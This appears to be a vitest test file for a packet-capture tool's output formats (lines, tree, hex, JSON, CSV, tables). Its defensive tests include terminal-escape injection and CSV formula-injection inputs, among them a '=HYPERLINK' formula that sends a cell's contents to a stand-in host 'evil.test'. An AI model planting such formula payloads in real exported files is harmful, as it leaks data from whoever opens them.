import { describe, expect, test } from 'vitest'
import { Batch } from '../../src/files/batch.ts'
import { Frame } from '../../src/files/frame.ts'
import {
  csvOutput,
  hexOutput,
  jsonOutput,
  lineOutput,
  ndjsonOutput,
  tableLimit,
  tableOutput,
  TextBuffer,
  treeOutput,
  type Output,
  type OutputOptions,
  type TimeStyle,
} from '../../src/output/index.ts'
import { fieldNamed } from '../../src/packet/fields.ts'
import { Packet } from '../../src/packet/packet.ts'
import { batchesOf, bytesOf, framesOf, packetOf } from '../support/packets.ts'

const rawIp = 101
const usual: OutputOptions = {
  time: 'epoch',
}

async function writtenTable(frames: readonly Frame[], options: OutputOptions): Promise<string> {
  const output = tableOutput({ ...usual, ...options })
  const text = new TextBuffer(16)
  for (const frame of frames) output.packet(new Batch().hold(frame), 0, text)
  await output.end?.(text)
  return new TextDecoder().decode(text.written)
}

function written(
  make: (options: OutputOptions) => Output,
  frames: readonly Frame[],
  options: OutputOptions = {},
): string {
  const output = make({ ...usual, ...options })
  const text = new TextBuffer(16)
  output.begin?.(text)
  for (const frame of frames) output.packet(new Batch().hold(frame), 0, text)
  void output.end?.(text)
  return new TextDecoder().decode(text.written)
}

const lines = (frames: readonly Frame[], options: OutputOptions = {}) =>
  written(lineOutput, frames, options).trimEnd().split('\n')
const web = framesOf('web.pcapng')
const get = web[9]!

describe('a line a packet', () => {
  test.each([
    'web.pcapng',
    'dns.pcapng',
    'ipv6.pcapng',
    'lossy.pcapng',
    'traceroute.pcapng',
    'vlan.pcapng',
    'qinq.pcapng',
    'arp.pcap',
    'igmp.pcapng',
    'fragments.pcapng',
    'cooked.pcap',
    'cooked-v1.pcap',
    'loopback.pcap',
    'raw-tun.pcap',
    'snaplen.pcap',
    'tcp-refused.pcapng',
    'mptcp.pcapng',
    'tcp-fastopen.pcapng',
    'stp.pcapng',
    'ping-options.pcapng',
    'pmtu.pcapng',
    'gre.pcapng',
    'vxlan.pcapng',
    'geneve.pcapng',
    'erspan.pcapng',
    '6in4.pcapng',
  ])('%s', async (capture) => {
    await expect(written(lineOutput, framesOf(capture))).toMatchFileSnapshot(`../golden/lines/${capture}.txt`)
  })

  test.each(['vlan.pcapng', 'qinq.pcapng', 'gre.pcapng', 'vxlan.pcapng', 'cooked.pcap', 'cooked-v1.pcap', 'ping.pcap'])(
    'has what its link and its tunnels say with -e: %s',
    async (capture) => {
      await expect(written(lineOutput, framesOf(capture).slice(0, 6), { link: true })).toMatchFileSnapshot(
        `../golden/lines/link/${capture}.txt`,
      )
    },
  )

  test('names the interface with -e where the capture has several, and the direction', () => {
    const [batch] = batchesOf('interfaces.pcapng').filter(({ length }) => length > 0)
    const text = new TextBuffer()
    lineOutput({ ...usual, link: true, time: 'none' }).packet(batch!, 0, text)
    lineOutput({ ...usual, link: true, time: 'none', width: () => 120 }).packet(batch!, 0, text)
    expect(new TextDecoder().decode(text.written)).toMatch(
      /^eth0 02:00:00:00:00:01 > [^\n]*\neth0 02:00:00:00:00:01 > /,
    )
    expect(fieldNamed('frame.interface_name')).toMatchObject({ kind: 'frame' })
  })

  test('begins with the time as tcpdump writes it', () => {
    const times = (time: TimeStyle, precision: 6 | 9 = 6) =>
      lines(
        [
          Frame.of(new Uint8Array(0), { seconds: 86399, nanoseconds: 999_999_999 }),
          Frame.of(new Uint8Array(0), { seconds: 86400, nanoseconds: 1 }),
          Frame.of(new Uint8Array(0), { seconds: 86399, nanoseconds: 0 }),
        ],
        { time, precision },
      ).map((line) => line.split(' DATA')[0]!)
    expect(times('time')).toEqual(['23:59:59.999999', '00:00:00.000000', '23:59:59.000000'])
    expect(times('epoch', 9)).toEqual(['86399.999999999', '86400.000000001', '86399.000000000'])
    expect(times('delta', 9)).toEqual(['00:00:00.000000000', '00:00:00.000000002', '-00:00:01.000000001'])
    expect(times('date')).toEqual([
      '1970-01-01 23:59:59.999999',
      '1970-01-02 00:00:00.000000',
      '1970-01-01 23:59:59.000000',
    ])
    expect(times('relative', 9)).toEqual(['00:00:00.000000000', '00:00:00.000000002', '-00:00:00.999999999'])
    expect(times('none')).toEqual(['DATA 0', 'DATA 0', 'DATA 0'])
  })

  test('says so where there is no time', () => expect(lines([Frame.of(new Uint8Array(0))])).toEqual(['- DATA 0']))

  test('has more or less in it on request', () => {
    expect(lines([get], { quiet: true })[0]).toMatch(/^\d+\.\d{6} 192\.0\.2\.1:\d+ > 192\.0\.2\.2:80 HTTP 142$/)
    expect(lines([get], { number: true, time: 'none' })[0]).toMatch(/^10 192\.0\.2\.1:/)
    expect(lines([get], { link: true, time: 'none' })[0]).toMatch(
      /^02:00:00:00:00:01 > 02:00:00:00:00:02 192\.0\.2\.1:\d+ > /,
    )
    expect(lines([get], { verbose: 1, time: 'none' })[2]).toMatch(
      /^ {4}TCP PSH ACK seq 1:77 ack 1 win \d+ len 76, options ts \d+\/\d+, checksum ok$/,
    )
    const { tcp } = packetOf('web.pcapng', 10)
    expect(lines([get], { verbose: 1, absoluteSequence: true, time: 'none' })[2]).toContain(
      `seq ${tcp!.sequence}:${tcp!.sequence + 76} ack ${tcp!.acknowledgment}`,
    )
  })

  test('tells a header that is cut, a contradiction, and a wrong checksum', () => {
    const bytes = get.bytes.slice()
    expect(lines([Frame.of(bytes.subarray(0, 14 + 20 + 10), { originalLength: 142 })], { time: 'none' })[0]).toMatch(
      /^192\.0\.2\.1:\d+ > 192\.0\.2\.2:80 IP 142 TCP \[\|tcp\]$/,
    )
    bytes[14 + 16]! ^= 0xff
    expect(lines([Frame.of(bytes)], { checksums: true, time: 'none' })[0]).toMatch(
      / \[ip: checksum 0x[0-9a-f]{4}, should be 0x[0-9a-f]{4}\] \[tcp: checksum /,
    )
    bytes[14] = 0x42
    expect(lines([Frame.of(bytes)], { verbose: 1, time: 'none' })[0]).toContain('[ip: header length below 20 bytes]')
  })

  test('is followed by the bytes, as tcpdump dumps them', () => {
    const [, ...hexadecimal] = lines([get], { dump: 'hex-text' })
    expect(hexadecimal[0]).toMatch(/^\t0x0000: {2}4500 0080 [0-9a-f]{4} 4000 4006 [0-9a-f]{4} c000 0201 {2}E\.\.\./)
    expect(hexadecimal.length).toBe(8)
    expect(lines([get], { dump: 'hex-link' })[1]).toMatch(/^\t0x0000: {2}0200 0000 0002 0200 0000 0001 0800 4500$/)
    expect(lines([get], { dump: 'text' }).join('\n')).toContain('GET / HTTP/1.1\nHost: example.test\n')
  })

  test('is followed by the payload, as text where it is text', () => {
    expect(lines([get], { payload: true }).slice(1)).toEqual([
      '\tGET / HTTP/1.1',
      '\tHost: example.test',
      expect.stringMatching(/^\tUser-Agent: curl/),
      '\tAccept: */*',
    ])
    expect(lines([web[2]!], { payload: true })[1]).toMatch(/^\t0x0000: {2}/)
    expect(lines([web[6]!], { payload: true })).toHaveLength(1)
    expect(() => lineOutput({ ...usual, payload: true, encoding: 'no-such' })).toThrow(TypeError)
  })

  test('never steers the terminal', () => {
    const bytes = get.bytes.slice()
    bytes.set(new TextEncoder().encode('\u001b[2J\u0007'), 14 + 20 + 32 + 5)
    for (const text of [
      lines([Frame.of(bytes)]),
      lines([Frame.of(bytes)], { payload: true }),
      lines([Frame.of(bytes)], { dump: 'text-link' }),
      [written(treeOutput, [Frame.of(bytes)])],
      [written(jsonOutput, [Frame.of(bytes)])],
      [written(csvOutput, [Frame.of(bytes)])],
    ])
      // oxlint-disable-next-line no-control-regex
      expect(text.join('\n')).not.toMatch(/[\u001b\u0007]/)
  })
})

describe('other formats', () => {
  test('a tree', async () => {
    await expect(written(treeOutput, web.slice(4, 10))).toMatchFileSnapshot('../golden/tree.txt')
    await expect(written(treeOutput, [get], { verbose: 1 })).toMatchFileSnapshot('../golden/tree-bytes.txt')
  })

  test('hexadecimal has all bytes', () => {
    const digits = written(hexOutput, [get])
      .split('\n')
      .slice(1)
      .map((line) => line.slice(10, 49).replaceAll(' ', ''))
      .join('')
    expect(digits).toBe(Array.from(get.bytes, (byte) => byte.toString(16).padStart(2, '0')).join(''))
  })

  test('JSON is one array of typed objects', () => {
    const packets = JSON.parse(written(jsonOutput, web)) as {
      number: number
      time: string
      layers: { protocol: string; fields: Record<string, unknown> }[]
    }[]
    expect(packets.map(({ number }) => number)).toEqual(web.map(({ number }) => number))
    const { layers, time } = packets[6]!
    expect(time).toMatch(/^\d+\.\d{9}$/)
    expect(layers.map(({ protocol }) => protocol)).toEqual(['eth', 'ip', 'tcp'])
    expect(layers[2]!.fields).toMatchObject({
      destinationPort: 80,
      flags: { syn: true, ack: false },
      options: [{ kind: 2, maximumSegmentSize: 1460 }, { kind: 4 }, { kind: 8 }, { kind: 1 }, { kind: 3 }],
    })
    expect(written(jsonOutput, [])).toBe('[]\n')
  })

  test('fields are arrays of all their occurrences, those of the frame single values', () => {
    const fields = [
      'frame.number',
      'frame.time_epoch',
      'frame.protocols',
      'ip.addr',
      'tcp.flags.syn',
      'tcp.port',
      'udp.port',
      'http.request.method',
    ].map(fieldNamed)
    const [line, ...more] = written(ndjsonOutput, [get], { fields }).trimEnd().split('\n')
    expect(more).toEqual([])
    expect(JSON.parse(line!)).toEqual({
      'frame.number': 10,
      'frame.time_epoch': expect.stringMatching(/^\d+\.\d{9}$/),
      'frame.protocols': 'eth:ethertype:ip:tcp:http',
      'ip.addr': ['192.0.2.1', '192.0.2.2'],
      'tcp.flags.syn': [false],
      'tcp.port': [packetOf('web.pcapng', 10).tcp!.sourcePort, 80],
      'http.request.method': ['GET'],
    })
    expect(written(ndjsonOutput, [get], { fields: [fieldNamed('dns.id')] })).toBe('{}\n')
  })

  test('CSV quotes what needs it', () => {
    const fields = ['frame.number', 'ip.addr', 'http.host'].map(fieldNamed)
    expect(written(csvOutput, [get], { fields })).toBe(
      'frame.number,ip.addr,http.host\n10,"192.0.2.1,192.0.2.2",example.test\n',
    )
    expect(written(csvOutput, [get], { time: 'none' })).toMatch(
      /^number,time,source,destination,protocol,length,info\n10,,192\.0\.2\.1:\d+,192\.0\.2\.2:80,HTTP,142,GET \/ HTTP\/1\.1 \(example\.test\)\n$/,
    )
  })

  /** A frame of IPv4, TCP to this port and these bytes. */
  const segment = (port: number, payload: Uint8Array) => {
    const header = bytesOf(
      '4500 0000 0001 0000 4006 0000 c0000201 c0000202 d000 0000 00000001 00000001 5018 ffff 0000 0000',
    )
    const bytes = Uint8Array.from([...header, ...payload])
    new DataView(bytes.buffer).setUint16(2, bytes.length)
    new DataView(bytes.buffer).setUint16(22, port)
    return Packet.of(bytes, rawIp).frame
  }

  test.each([
    ['=HYPERLINK("http://evil.test?x="&A1)', `"'=HYPERLINK(""http://evil.test?x=""&A1)"`],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['-3', '-3'],
    ['+49.5', '+49.5'],
    ['1=2', '1=2'],
  ])('CSV marks what a spreadsheet would take for a formula: %s', (agent, cell) => {
    const request = new TextEncoder().encode(`GET / HTTP/1.1\r\nUser-Agent: ${agent}\r\n\r\n`)
    const fields = [fieldNamed('http.user_agent')]
    expect(written(csvOutput, [segment(80, request)], { fields })).toBe(`http.user_agent\n${cell}\n`)
  })

  test('bytes at a fixed place are hexadecimal text', () => {
    const request = `01 07 0014 ${'ab'.repeat(16)}`
    const datagram = `45 00 0030 0001 0000 40 11 0000 c0000201 c0000202 9c40 0714 001c 0000 ${request}`
    const fields = [fieldNamed('radius.authenticator')]
    const frames = [Frame.of(bytesOf(datagram), { linkType: rawIp })]
    expect(written(csvOutput, frames, { fields })).toBe(`radius.authenticator\n${'ab'.repeat(16)}\n`)
    expect(JSON.parse(written(ndjsonOutput, frames, { fields }))).toEqual({ 'radius.authenticator': ['ab'.repeat(16)] })
  })

  test('JSON has numbers of 64 bits as text, which readers keep', () => {
    const modification = bytesOf(`04 0e 0038 00000007 ffffffffffffffff 8000000000000001 00 00 0000 0000 0000
      ffffffff ffffffff ffffffff 0000 0000 0001 0004 00000000`)
    const frames = [segment(6653, modification)]
    const fields = ['openflow_v4.flowmod.cookie', 'openflow_v4.flowmod.cookie_mask'].map(fieldNamed)
    expect(JSON.parse(written(ndjsonOutput, frames, { fields }))).toEqual({
      'openflow_v4.flowmod.cookie': ['18446744073709551615'],
      'openflow_v4.flowmod.cookie_mask': ['9223372036854775809'],
    })
    expect(JSON.parse(written(ndjsonOutput, frames)).layers.at(-1).fields).toMatchObject({
      cookie: '18446744073709551615',
      cookieMask: '9223372036854775809',
    })
  })

  test('a table has a row for each packet, up to a limit', async () => {
    const table = await writtenTable(web.slice(0, 3), { fields: ['frame.number', 'eth.src'].map(fieldNamed) })
    expect(table.split('\n').filter((line) => line.includes('02:00:00'))).toHaveLength(3)
    const long = await writtenTable(
      Array.from({ length: tableLimit + 5 }, () => get),
      { fields: [fieldNamed('frame.len')] },
    )
    expect(long.match(/^142$/gm)).toHaveLength(tableLimit)
    expect(long).toContain('5 more are not shown')
  })
})

test('the bytes of a tree stand where a terminal has room for them', () => {
  for (const width of [10, 40, 60, 80, 100, 140]) {
    const tree = written(treeOutput, [get], { verbose: 1, width: () => width })
    const places = tree.split('\n').filter((line) => / \d+\+\d+ {2}/.test(line))
    if (width >= 40) expect(places.length).toBeGreaterThan(40)
    if (width >= 60) for (const line of places) expect(line.length).toBeLessThanOrEqual(width)
  }
  const plain = written(treeOutput, [get], { verbose: 1 })
  expect(written(treeOutput, [get], { verbose: 1, width: () => 60, wide: true })).toBe(plain)
  expect(plain).toMatch(/^ {2}Source: 02:00:00:00:00:01 {45,} 6\+6 {2}eth\.src {2}02 00/m)
})

test.each(['time', 'date', 'epoch'] as const)('a time beyond the calendar is its seconds, in the style %s', (time) => {
  const far = new Frame(1, 18_446_744_073_709, 551_615_000, 0, 0, 1, 0, new Uint8Array(), 0)
  expect(written(lineOutput, [far], { time })).toMatch(/^18446744073709\.551615 /)
})
